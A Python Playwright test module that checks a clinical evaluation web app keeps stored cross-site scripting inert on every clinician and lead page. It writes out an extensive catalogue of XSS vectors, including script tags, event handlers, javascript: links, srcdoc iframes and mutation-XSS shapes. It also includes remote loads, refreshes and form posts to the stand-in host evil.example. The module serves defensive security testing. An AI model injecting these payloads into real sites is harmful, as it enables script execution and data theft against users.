"""Chromium: stored cross-site scripting stays inert on every page (DESIGN.md invariant 5).

A study is built through the real services with hostile text everywhere a person or a
model can put text that another person's browser shows: the study's title, description
and guidelines, the case's id, question and reference answer, the model names, versions
and answers, users' display names and specialties, a flag note, comments and rationales
(by another clinician through the services, and typed into the page by this one), a vote
reason. Each text carries the usual vectors (script tags, event handlers, javascript:
links, iframes, SVG, meta refresh, base, forms, CSS imports, remote images, KaTeX
``\\href``, mutation-XSS shapes) plus a visible marker.

Then a clinician rates and flags the item, votes on the pair and asks for the reveal;
a lead opens every tab of the lead page (found in the page, not named here), picks the
study wherever a tab asks for one and presses Compute. On every page: no dialog opened,
no payload ran (each calls ``__xss`` which records it), no live dangerous element or
attribute is left in the DOM, and no request went to another host (every request is
routed, and any to another host is recorded and aborted; the CSP's own reports are
collected too: only image loads may have been blocked by it). The visible markers prove
the payloads were on the page, so "inert" is not "absent".
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from medeval_ui.services import studies, users
from medeval_ui.services.annotation import flag_item, next_item, submit_item
from medeval_ui.services.import_cases import import_cases
from medeval_ui.services.import_outputs import import_outputs
from medeval_ui.services.pairwise import next_pair, submit_vote
from tests.browser.conftest import PW, LiveApp, login, record, settle
from tests.helpers import write_jsonl

pytestmark = pytest.mark.slow

WAIT_MS = 20_000
SLUG = "xss"
LANGUAGE = "sw"  # nobody else reads Swahili: the demo study stays out of the way


def payload(tag: str) -> str:
    """Many vectors in one text, each reporting ``tag`` if it ever runs."""
    t = tag
    return "\n\n".join(
        [
            f"XSSVISIBLE-{t}",
            f"<script>__xss('{t}-script')</script>",
            f"<img src=x onerror=\"__xss('{t}-img')\">",
            f"<svg onload=\"__xss('{t}-svg')\"><circle r=1></circle></svg>",
            f"<iframe src=\"javascript:__xss('{t}-iframe')\"></iframe>",
            f"<iframe srcdoc=\"<script>parent.__xss('{t}-srcdoc')</script>\"></iframe>",
            f"[click me](javascript:__xss('{t}-mdlink'))",
            f"<a href=\"javascript:__xss('{t}-href')\">a link</a>",
            f"![remote](http://evil.example/{t}.png)",
            f'<img src="http://evil.example/{t}-tag.png">',
            f"<style>@import url(http://evil.example/{t}.css); "
            f"body {{ background: url(http://evil.example/{t}-bg.png) }}</style>",
            f'<link rel="stylesheet" href="http://evil.example/{t}-link.css">',
            f'<meta http-equiv="refresh" content="0;url=http://evil.example/{t}-meta">',
            f'<object data="http://evil.example/{t}.swf"></object>',
            f'<embed src="http://evil.example/{t}-embed.swf">',
            f'<base href="http://evil.example/{t}/">',
            f'<form action="http://evil.example/{t}"><input name=q><button>go</button></form>',
            f"<details open ontoggle=\"__xss('{t}-toggle')\"><summary>s</summary></details>",
            f"\"'><img src=x onerror=__xss('{t}-attr')>",
            f"<img src=x onerror=alert('{t}')>",
            f"$$\\href{{javascript:__xss('{t}-katex')}}{{k}}$$",
            f"<video><source onerror=\"__xss('{t}-video')\"></video>",
            f"<math><mtext><table><mglyph><style><img src=x onerror=__xss('{t}-mxss')>",
            f"<noscript><p title=\"</noscript><img src=x onerror=__xss('{t}-noscript')>\">",
        ]
    )


def short(tag: str) -> str:
    """One line, for names and titles (they have length limits)."""
    return f"XSSVISIBLE-{tag} <img src=x onerror=__xss('{tag}-i')><script>__xss('{tag}-s')</script>"


MODELS = (("m1", short("model1"), "<svg onload=__xss('ver1')>"), ("m2", short("model2"), "v2"))


def build_study(live_app: LiveApp, folder: Path) -> None:
    db, settings = live_app.db, live_app.settings
    studies.create_study(
        db,
        SLUG,
        short("title"),
        "xlingeval_correctness",
        description=payload("description"),
        guidelines=payload("guidelines"),
        modes=("rating", "pairwise"),
        ratings_per_output=2,
        votes_per_pair=2,
        blind=False,  # model names are shown on the clinician's page
        show_reference=True,
        reveal_policy="after_vote",
    )
    cases = [
        {
            "external_id": "x-1<img src=x onerror=__xss('extid')>",
            "group_id": "g<script>__xss('group')</script>",
            "language": LANGUAGE,
            "specialty": short("specialty"),
            "prompt": payload("prompt"),
            "reference_answer": payload("reference"),
        }
    ]
    import_cases(db, settings, SLUG, write_jsonl(folder / "cases.jsonl", cases))
    outputs = [
        {
            "case_id": cases[0]["external_id"],
            "model": name,
            "model_version": version,
            "sample": 0,
            "text": payload(f"output-{key}"),
        }
        for key, name, version in MODELS
    ]
    import_outputs(db, SLUG, write_jsonl(folder / "outputs.jsonl", outputs))
    for name in ("xclin", "xpeer"):
        users.add_user(
            db,
            name,
            "clinician",
            password=PW,
            languages=[LANGUAGE],
            display_name=short(f"display-{name}"),
            specialty=short(f"specialty-{name}"),
        )
    users.add_user(db, "xadmin", "admin", password=PW)  # sees the lead tabs and Users
    # Another clinician's judgments, so that the lead's tables and charts show them.
    item = next_item(db, "xpeer", SLUG)
    assert item is not None
    flag_item(db, "xpeer", item.assignment_id, short("flagnote"))
    answers = {
        r.position: {"correctness": "neither", "rationale": payload("rationale")}
        for r in item.responses
    }
    comments = {r.position: payload("comment") for r in item.responses}
    submit_item(db, "xpeer", item.assignment_id, answers, {}, comments, item.client_token)
    pair = next_pair(db, "xpeer", SLUG)
    assert pair is not None
    submit_vote(db, "xpeer", pair.assignment_id, "a", reason=payload("reason"), client_token="p1")


@pytest.fixture(scope="module")
def xss_study(live_app: LiveApp, tmp_path_factory: pytest.TempPathFactory) -> str:
    build_study(live_app, tmp_path_factory.mktemp("xss"))
    return SLUG


# Runs before any page script: records payloads that run and the CSP's own reports.
_TRAPS = r"""
(() => {
  window.__xssHits = [];
  window.__xss = (tag) => { window.__xssHits.push(String(tag)); };
  window.__cspReports = [];
  document.addEventListener("securitypolicyviolation", (e) => {
    window.__cspReports.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample || ""}`);
  });
})();
"""

# Dangerous things left live in the DOM that carry one of our payloads.
_DOM_CHECK = r"""
() => {
  const mark = /__xss|alert\(|evil\.example/i;
  const bad = [];
  const urlAttrs = ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"];
  for (const el of document.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on") && mark.test(attr.value)) bad.push(`${tag}[${name}]`);
      if (urlAttrs.includes(name) && /^\s*javascript:/i.test(attr.value)) {
        bad.push(`${tag}[${name}=javascript:]`);
      }
      if (name === "srcdoc" && mark.test(attr.value)) bad.push(`${tag}[srcdoc]`);
    }
    if (["script", "style"].includes(tag) && /__xss|evil\.example/.test(el.textContent)
        && !el.textContent.includes("gradio_config")) {
      bad.push(`${tag}: ${el.textContent.slice(0, 80)}`);
    }
    if (["iframe", "object", "embed", "base", "link", "meta", "frame"].includes(tag)
        && mark.test(el.outerHTML)) {
      bad.push(el.outerHTML.slice(0, 120));
    }
  }
  return bad;
}
"""


@dataclass
class Watch:
    """What one page did that it must not have."""

    page: Page
    app_host: str
    dialogs: list[str] = field(default_factory=list)
    sent: list[str] = field(default_factory=list)  # reached the network: routed
    attempted: list[str] = field(default_factory=list)  # seen by the page, maybe blocked

    def problems(self, *, allowed_blocks: tuple[str, ...] = ("img-src",)) -> dict[str, Any]:
        settle(self.page)
        hits = self.page.evaluate("() => window.__xssHits")
        reports: list[str] = self.page.evaluate("() => window.__cspReports")
        blocked = {r.split(" ")[1] for r in reports if " " in r}
        # Only blocks of our payloads count: Gradio's own gr.HTML evaluates templates
        # with Function(), which the CSP (no 'unsafe-eval') refuses on the Generate tab.
        ours = [r for r in reports if re.search(r"evil\.example|__xss|alert\(", r)]
        found = {
            "ran": hits,
            "dialogs": self.dialogs,
            "requests to other hosts": self.sent,
            # Chromium reports a request the CSP then blocks: each must be one it blocked.
            "attempts the CSP did not block": [u for u in self.attempted if u not in blocked],
            "dangerous DOM": self.page.evaluate(_DOM_CHECK),
            # The CSP blocks remote images (Markdown keeps ![x](url), see the module
            # docstring); anything else it had to block is markup that got through.
            "other CSP blocks": [r for r in ours if not r.startswith(allowed_blocks)],
        }
        return {k: v for k, v in found.items() if v}


def assert_inert(watch: Watch, where: str = "", **kw: Any) -> None:
    found = watch.problems(**kw)
    assert found == {}, f"{where}\n{json.dumps(found, indent=1)}"


def open_watched(browser: Browser, live_app: LiveApp) -> Watch:
    """A new page whose every request is routed: any to another host is recorded and
    aborted (so nothing leaves even while a test fails), dialogs are recorded."""
    page = browser.new_page(viewport={"width": 1400, "height": 1100})
    record(page, live_app.url)  # Gradio's event stream hook, used by ``settle``
    page.add_init_script(_TRAPS)
    watch = Watch(page, urlsplit(live_app.url).netloc)

    def route(r: Route) -> None:
        url = r.request.url
        if url.startswith(("data:", "blob:")) or urlsplit(url).netloc == watch.app_host:
            r.continue_()
        else:
            watch.sent.append(url)
            r.abort()

    page.route("**/*", route)
    page.on("request", lambda r: _note_foreign(watch, r.url))

    def on_dialog(dialog: Any) -> None:
        watch.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    return watch


def _note_foreign(watch: Watch, url: str) -> None:
    local = url.startswith(("data:", "blob:", "about:")) or urlsplit(url).netloc == watch.app_host
    if not local and url not in watch.attempted:
        watch.attempted.append(url)


def shown(page: Page) -> set[str]:
    """The visible markers on the page: which payloads it displays."""
    text = page.evaluate("() => document.body.innerText")
    return set(re.findall(r"XSSVISIBLE-([\w-]+)", text))


def open_accordion(page: Page, elem_id: str) -> None:
    button = page.locator(f"#{elem_id} button.label-wrap").first
    if button.count() and "open" not in (button.get_attribute("class") or ""):
        button.click()


def test_clinician_pages_keep_payloads_inert(
    live_app: LiveApp, browser: Browser, xss_study: str
) -> None:
    watch = open_watched(browser, live_app)
    page = watch.page
    login(page, live_app.url, "xclin")
    expect(page.locator("#studies-table")).to_contain_text("XSSVISIBLE-title", timeout=WAIT_MS)
    page.locator("#study-select input").click()
    page.get_by_role("option", name=re.compile("XSSVISIBLE-title")).click()
    expect(page.locator("#study-start")).to_be_enabled(timeout=WAIT_MS)
    page.locator("#study-start").click()
    expect(page.locator("#case-header")).to_contain_text("x-1", timeout=WAIT_MS)
    open_accordion(page, "guidelines")
    expect(page.get_by_text("XSSVISIBLE-output-m2").first).to_be_visible(timeout=WAIT_MS)
    seen = shown(page)
    assert {"prompt", "reference", "output-m1", "output-m2", "guidelines"} <= seen, seen
    assert {"model1", "model2"} <= seen, seen  # not blind: the names are on the page
    # Her own hostile texts, typed into the page.
    n = page.locator('[id^="response-"]').count()
    for pos in range(1, n + 1):
        page.locator(f"#q-{pos}-correctness label").nth(1).click()
        page.locator(f"#q-{pos}-confidence label").nth(2).click()
        page.locator(f"#comment-{pos} textarea").fill(short(f"typed-comment-{pos}"))
    page.locator("#flag-note textarea, #flag-note input").first.fill(short("typed-flag"))
    page.locator("#flag-btn").click()
    expect(page.locator("#status")).to_contain_text("Flagged", timeout=WAIT_MS)
    page.locator("#submit-btn").click()
    expect(page.locator("#status")).to_contain_text("Saved", timeout=WAIT_MS)
    # Her history lists the item by its (hostile) case id; editing brings it back.
    page.locator("#history button.label-wrap").click()
    page.locator("#history-select input").click()
    page.get_by_role("option", name=re.compile("x-1")).first.click()
    page.locator("#edit-btn").click()
    expect(page.locator("#status")).to_contain_text("editing", timeout=WAIT_MS)
    expect(page.get_by_text("XSSVISIBLE-prompt").first).to_be_visible(timeout=WAIT_MS)
    assert_inert(watch)
    # Case text and model output keep no HTML at all (web/untrusted.py): gr.Markdown's
    # sanitizer would keep a form, which could post a fake sign-in to our own /login.
    for area in ("#case-prompt", "#reference-text", ".response-text"):
        assert page.locator(f"{area} form, {area} input, {area} button").count() == 0, area
        expect(page.locator(area).first).to_contain_text("<form action=")
    # The lead's guidelines still render Markdown with HTML: a form sent from there must
    # not leave the site.
    forms = page.locator('form[action^="http://evil.example"] button')
    assert forms.count() > 0
    forms.first.click(no_wait_after=True)
    page.wait_for_timeout(500)
    assert page.url.startswith(live_app.url)
    assert_inert(watch, "after sending an injected form", allowed_blocks=("img-src", "form-action"))

    # The pairwise page: vote with a hostile reason, then the reveal names the models.
    page.goto(f"{live_app.url}/compare/", wait_until="load")
    page.locator("#compare-study input").click()
    page.get_by_role("option", name=re.compile("XSSVISIBLE-title")).click()
    expect(page.locator("#compare-start")).to_be_enabled(timeout=WAIT_MS)
    page.locator("#compare-start").click()
    expect(page.get_by_text("XSSVISIBLE-output-m1").first).to_be_visible(timeout=WAIT_MS)
    open_accordion(page, "compare-guidelines")
    assert {"prompt", "output-m1", "output-m2"} <= shown(page)
    page.locator("#vote-reason textarea").fill(payload("typed-reason"))
    page.locator("#vote-a").click()
    expect(page.locator("#voted-area")).to_be_visible(timeout=WAIT_MS)
    page.locator("#reveal-btn").click()
    expect(page.locator("#reveal-text")).to_contain_text("XSSVISIBLE-model", timeout=WAIT_MS)
    assert_inert(watch)
    page.close()


def test_lead_pages_keep_payloads_inert(
    live_app: LiveApp, browser: Browser, xss_study: str
) -> None:
    watch = open_watched(browser, live_app)
    page = watch.page
    login(page, live_app.url, "xadmin")  # an admin: every lead tab, and the users table
    page.goto(f"{live_app.url}/lead/", wait_until="load")
    tabs = page.get_by_role("tab")
    expect(tabs.first).to_be_visible(timeout=WAIT_MS)
    names = [tabs.nth(i).inner_text().strip() for i in range(tabs.count())]
    assert len(names) >= 5, names
    seen: set[str] = set()
    for name in names:
        page.get_by_role("tab", name=name, exact=True).click()
        panel = page.locator('[role="tabpanel"]:visible').first
        expect(panel).to_be_visible(timeout=WAIT_MS)
        settle(page)
        # Wherever the tab asks for a study, pick this one; then compute what it offers.
        pickers = panel.locator('input[role="combobox"][aria-label^="Study"]')
        for i in range(pickers.count()):
            if not pickers.nth(i).is_visible():
                continue
            pickers.nth(i).click()
            page.get_by_role("option", name=re.compile(rf"^{SLUG}$|XSSVISIBLE-title")).first.click()
            settle(page)
        for button in ("Compute", "Prepare download link"):
            target = panel.get_by_role("button", name=button, exact=True)
            if target.count() and target.first.is_visible():
                target.first.click()
                settle(page)
        page.wait_for_timeout(500)  # charts draw after the event's result
        settle(page)
        seen |= shown(page)
        assert_inert(watch, name)
    # What the lead's tables and charts show came from every kind of person.
    expected = {"title", "flagnote", "display-xpeer", "display-xclin", "model1", "model2"}
    assert expected <= seen, expected - seen
    page.close()


def test_the_watch_catches_what_it_must(live_app: LiveApp, browser: Browser) -> None:
    """The checks above are able to fail: markup slipped past a sanitizer runs and is
    found, a remote image is reported as blocked, a navigation off the site is caught."""
    watch = open_watched(browser, live_app)
    page = watch.page
    page.goto(f"{live_app.url}/login", wait_until="load")
    page.evaluate(
        """() => document.body.insertAdjacentHTML("beforeend",
        '<img src=x onerror="__xss(1)"><img src="http://evil.example/c.png">' +
        '<iframe src="javascript:1"></iframe>')"""
    )
    page.wait_for_function("() => window.__xssHits.length > 0")
    found = watch.problems()
    assert found["ran"] == ["1"]
    assert any("onerror" in d for d in found["dangerous DOM"])
    assert any("iframe" in d for d in found["dangerous DOM"])
    assert "http://evil.example/c.png" in watch.attempted  # seen, and blocked by the CSP
    assert "attempts the CSP did not block" not in found
    assert "requests to other hosts" not in found
    page.evaluate("() => { location.href = 'http://evil.example/away'; }")
    page.wait_for_timeout(1000)
    assert watch.sent == ["http://evil.example/away"]  # routed, recorded, aborted
    page.close()
